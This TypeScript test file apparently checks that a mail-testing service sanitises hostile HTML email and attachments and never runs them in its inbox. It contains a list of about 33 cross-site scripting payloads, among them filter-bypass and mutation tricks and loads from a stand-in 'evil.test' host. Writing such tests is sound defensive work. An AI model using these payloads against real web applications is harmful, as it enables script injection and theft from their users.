import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, mailFrame } from './inbox-support.js'
import { startSvc, type TestSvc } from './support/svc.js'

/**
 * Hostile HTML mail: `/html` returns none of it active, whether a browser
 * parses it with scripting on or off, and neither the page itself nor the
 * inbox ever runs it (no dialog, no console marker, no request to the
 * attacker's host, no navigation).
 */

/** What every payload tries to run. */
const RUN = "alert(1),console.log('XSS-RAN')"
const EVIL = 'http://evil.test'

const VECTORS: Record<string, string> = {
  'script element': `<script>${RUN}</script>`,
  'remote script': `<script src="${EVIL}/x.js"></script>`,
  'script in svg': `<svg><script>${RUN}</script></svg>`,
  'split script tag': `<scr<script>x</script>ipt>${RUN}</script>`,
  'img onerror': `<img src="x" onerror="${RUN}">`,
  'body onload': `<body onload="${RUN}">hi</body>`,
  'svg onload': `<svg onload="${RUN}"></svg>`,
  'details ontoggle': `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  'autofocus onfocus': `<input autofocus onfocus="${RUN}">`,
  'source onerror': `<video><source src="x" onerror="${RUN}"></video>`,
  'handler after a slash': `<img/src="x"/onerror="${RUN}">`,
  'javascript: link': `<a href="javascript:${RUN}">click</a>`,
  'javascript: with entities and a tab': `<a href=" jav&#x09;a&#115;cript&colon;${RUN}">click</a>`,
  'javascript: in svg xlink': `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  'svg animate to javascript:': `<svg><a><animate attributeName="href" values="x;javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  'form action': `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  'iframe javascript:': `<iframe src="javascript:${RUN}"></iframe>`,
  'iframe data:': `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  'iframe srcdoc': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'remote iframe': `<iframe src="${EVIL}/frame"></iframe>`,
  'object data:': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  'embed svg': `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  'meta refresh javascript:': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'meta refresh away': `<meta http-equiv="refresh" content="0;url=${EVIL}/phish">`,
  'base href': `<base href="${EVIL}/"><a href="page">relative</a>`,
  'tag in a comment': `<!--<img src="--><img src=x onerror="${RUN}">-->`,
  'tag in noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'tag in style': `<style><img title="</style><img src=x onerror=${RUN}>"></style>`,
  'mglyph style mutation': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  'quote inside an unquoted value': `<img src=x a=b"c="x onerror=${RUN} ">`,
  'no-break space before a quote': `<img src=x title=\u00a0"x onerror=${RUN} ">`,
  'name starting with =': `<a ="><img src=x onerror=${RUN}>">`,
  'bogus comment': `<? <img title="> <img src=x onerror=${RUN}>">`,
}

/** Vectors aimed at filters: harmless as sent, harmful once a filter joins their halves or writes the tree back out. */
const HARMFUL_ONCE_REWRITTEN = new Set(['split script tag', 'mglyph style mutation'])

/** What an active page would show: elements and attributes that run code, load documents or navigate. Runs in the browser. */
function activeParts({ html, scripting }: { html: string; scripting: boolean }): string[] {
  // DOMParser parses as a sandboxed frame does; innerHTML, in this page that forbids scripts and images, as a page that runs scripts.
  const root: ParentNode = scripting ? Object.assign(document.createElement('div'), { innerHTML: html }) : new DOMParser().parseFromString(html, 'text/html')
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName
    if (['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet'].includes(name)) found.push(`<${name}>`)
    if (name === 'meta' && element.hasAttribute('http-equiv')) found.push('<meta http-equiv>')
    if (name === 'base' && element.hasAttribute('href')) found.push('<base href>')
    for (const { name: attribute, value } of element.attributes) {
      const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      if (attribute.startsWith('on') || attribute === 'srcdoc') found.push(`${name}[${attribute}]`)
      if (/(?:^|;)(?:javascript|vbscript):/.test(url)) found.push(`${name}[${attribute}=${url.slice(0, 20)}]`)
    }
  }
  return found
}

let t: TestSvc
let browser: Browser
const ids: Record<string, string> = {}

async function startWithVectors() {
  t = await startSvc()
  // One at a time: send() resolves the id of the next message stored.
  for (const [name, html] of Object.entries(VECTORS)) ids[name] = (await t.send({ subject: `vector: ${name}`, html, text: name })).id
}

beforeAll(async () => {
  // Chromium starts while the vectors are sent.
  ;[browser] = await Promise.all([launchBrowser(), startWithVectors()])
})
afterAll(async () => {
  await browser?.close()
  await t?.stop()
})

/** A blank page where parsing a payload can run nothing and load nothing. */
async function parsingPage(): Promise<Page> {
  const page = await browser.newPage()
  await page.setContent(`<meta http-equiv="content-security-policy" content="default-src 'none'">`)
  return page
}

/** Everything a page does that a payload could cause. */
function watch(page: Page) {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (message.text().includes('XSS-RAN')) seen.push(`console: ${message.text()}`)
  })
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) seen.push(`request: ${request.url()}`)
  })
  page.on('framenavigated', (frame) => {
    if (!frame.url().startsWith(t.baseUrl) && frame.url() !== 'about:blank') seen.push(`navigation: ${frame.url()}`)
  })
  return seen
}

describe('GET /api/email/:id/html', () => {
  it('serves every vector under a policy that runs no script and sandboxes the page', async () => {
    for (const name of Object.keys(VECTORS)) {
      const res = await t.api(`/api/email/${ids[name]}/html`)
      expect(res.status, name).toBe(200)
      const policy = res.headers.get('content-security-policy') ?? ''
      expect(policy, name).toMatch(/script-src 'none'/)
      expect(policy, name).toMatch(/(^|; )sandbox( |;|$)/)
      expect(policy, name).not.toMatch(/allow-scripts|allow-same-origin/)
      const html = await res.text()
      expect(html, name).not.toMatch(/<(script|iframe|object|embed|frame|applet)\b/i)
      expect(html, name).not.toMatch(/http-equiv/i)
    }
  })

  it('leaves nothing active in any vector, parsed with scripting off (the inbox frame) or on', async () => {
    const page = await parsingPage()
    try {
      for (const name of Object.keys(VECTORS)) {
        const html = await (await t.api(`/api/email/${ids[name]}/html`)).text()
        expect(await page.evaluate(activeParts, { html, scripting: false }), `${name}, scripting off`).toEqual([])
        expect(await page.evaluate(activeParts, { html, scripting: true }), `${name}, scripting on`).toEqual([])
      }
    } finally {
      await page.close()
    }
  })

  it('finds the vectors active before sanitizing: the check above can fail', async () => {
    const page = await parsingPage()
    try {
      for (const name of Object.keys(VECTORS)) {
        const raw = (await t.svc.smtp.getEmail(ids[name]!))!.html
        const active = [...(await page.evaluate(activeParts, { html: raw, scripting: false })), ...(await page.evaluate(activeParts, { html: raw, scripting: true }))]
        if (!HARMFUL_ONCE_REWRITTEN.has(name)) expect(active.length, name).toBeGreaterThan(0)
      }
    } finally {
      await page.close()
    }
  })

  // One page load per vector (33): 20-25 s on a quiet machine, so 30 s left no room on a loaded one.
  it('runs nothing, loads nothing from the attacker and goes nowhere when opened directly', { timeout: 90_000 }, async () => {
    const page = await browser.newPage()
    const seen = watch(page)
    try {
      for (const name of Object.keys(VECTORS)) {
        await page.goto(`${t.baseUrl}/api/email/${ids[name]}/html`)
        await page.waitForTimeout(50)
        expect(seen, name).toEqual([])
      }
    } finally {
      await page.close()
    }
  })
})

describe('attachments', () => {
  it('opens HTML, SVG and XHTML attachments as inert documents: nothing runs in svc\'s origin', async () => {
    const files = [
      { filename: 'page.html', contentType: 'text/html', content: `<script>${RUN}</script><img src=x onerror="${RUN}">` },
      { filename: 'logo.svg', contentType: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>` },
      { filename: 'page.xhtml', contentType: 'application/xhtml+xml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${RUN}</script></body></html>` },
      { filename: 'sniff-me.txt', contentType: 'text/plain', content: `<script>${RUN}</script>` },
    ]
    const { id } = await t.send({ subject: 'hostile attachments', text: 'see attached', attachments: files })
    const page = await browser.newPage()
    const seen = watch(page)
    try {
      for (const { filename } of files) {
        const response = await page.goto(`${t.baseUrl}/api/email/${id}/attachment/${filename}`)
        expect(response!.status(), filename).toBe(200)
        await page.waitForTimeout(100)
        expect(seen, filename).toEqual([])
      }
    } finally {
      await page.close()
    }
  })
})

describe('the inbox', () => {
  it('shows a message carrying every vector, and its subject, sender and file names, without running any', async () => {
    const { id } = await t.send({
      subject: `<img src=x onerror="${RUN}">every vector`,
      from: `"<svg onload=${RUN}>" <attacker@example.com>`,
      html: Object.values(VECTORS).join('\n<hr>\n'),
      text: 'every vector',
      attachments: [{ filename: `<img src=x onerror="${RUN}">.txt`, content: 'x' }],
    })
    const page = await browser.newPage()
    const seen = watch(page)
    try {
      await page.goto(`${t.baseUrl}/#/email/${id}`)
      const frame = await mailFrame(page, id)
      await frame.waitForLoadState()
      await page.waitForTimeout(300)
      expect(await page.locator('.message-subject').textContent()).toContain('<img src=x onerror=')
      expect(seen).toEqual([])
    } finally {
      await page.close()
    }
  })
})
